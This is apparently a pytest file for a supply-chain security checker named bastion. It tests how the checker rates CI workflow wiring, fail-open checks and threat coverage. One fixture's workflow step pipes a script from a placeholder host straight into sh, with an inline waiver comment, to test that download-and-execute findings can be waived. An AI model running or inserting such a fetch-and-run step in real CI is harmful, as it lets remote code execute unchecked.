"""The workflows control inside bastion check: findings, and CI wiring in the coverage matrix."""

from __future__ import annotations

from pathlib import Path

from bastion._internal.engine import run_check
from bastion._internal.model import ControlStatus, Coverage
from tests.conftest import OLD_DATA_OK, MakeProject

REQUIREMENTS = (
    "idna==3.7 --hash=sha256:82fee1fc78add43492d3a1898bfa6d8a904cc97d8427f683ed8e798d07761aa0\n"
)


def _workflow(command: str) -> str:
    return f"""\
    on: [push, pull_request]
    permissions: {{}}
    jobs:
      security:
        runs-on: ubuntu-latest
        steps:
          - run: {command}
    """


def _verdicts(root: Path) -> dict[str, str]:
    report = run_check(root)
    return {row.threat: row.verdict.value for row in report.coverage}


def test_bastion_check_fail_closed_covers_every_control_that_ran(make_project: MakeProject) -> None:
    root = make_project(
        {
            "requirements.txt": REQUIREMENTS,
            "bastion.toml": OLD_DATA_OK,
            ".github/workflows/ci.yml": _workflow("bastion check ."),
        }
    )
    report = run_check(root)
    enforced = {r.control: r.enforced for r in report.results}
    assert enforced["pinning"] is True and enforced["advisories"] is True
    assert enforced["workflows"] is True
    assert enforced["cooldown"] is None  # did not run: nothing to enforce
    verdicts = {row.threat: row.verdict for row in report.coverage}
    assert verdicts["tampering"] is Coverage.COVERED
    assert verdicts["ci-compromise"] is Coverage.COVERED
    assert verdicts["compromised-release"] is Coverage.EXPOSED


def test_fail_open_check_leaves_coverage_local(make_project: MakeProject) -> None:
    root = make_project(
        {
            "requirements.txt": REQUIREMENTS,
            "bastion.toml": OLD_DATA_OK,
            ".github/workflows/ci.yml": _workflow("bastion check . || true"),
        }
    )
    report = run_check(root)
    assert {r.control: r.enforced for r in report.results}["pinning"] is False
    assert {row.threat: row.verdict for row in report.coverage}["tampering"] is Coverage.LOCAL
    assert any(f.rule_id == "fail-open-check" for f in report.findings)


def test_an_equivalent_tool_covers_only_its_layer(make_project: MakeProject) -> None:
    root = make_project(
        {
            "requirements.txt": REQUIREMENTS,
            "bastion.toml": OLD_DATA_OK,
            ".github/workflows/ci.yml": _workflow("pip-audit -r requirements.txt"),
        }
    )
    verdicts = _verdicts(root)
    assert verdicts["known-vulnerable"] == "covered"
    assert verdicts["tampering"] == "local-only"


def test_no_workflows_is_not_configured(make_project: MakeProject) -> None:
    root = make_project({"requirements.txt": REQUIREMENTS, "bastion.toml": OLD_DATA_OK})
    (root / ".git").mkdir()
    report = run_check(root)
    result = next(r for r in report.results if r.control == "workflows")
    assert result.status is ControlStatus.NOT_CONFIGURED
    assert {row.threat: row.verdict for row in report.coverage}["ci-compromise"] is Coverage.EXPOSED


def test_suppressed_findings_are_listed_as_waived(make_project: MakeProject) -> None:
    root = make_project(
        {
            "bastion.toml": OLD_DATA_OK,
            ".github/workflows/ci.yml": _workflow(
                "curl -s https://x.example/i.sh | sh"
                "  # bastion: ignore[download-execute] pinned mirror"
            ),
        }
    )
    report = run_check(root)
    assert not any(f.rule_id == "download-execute" for f in report.findings)
    (waived,) = [w for w in report.waived if w.finding.rule_id == "download-execute"]
    assert waived.waiver.reason == "pinned mirror"
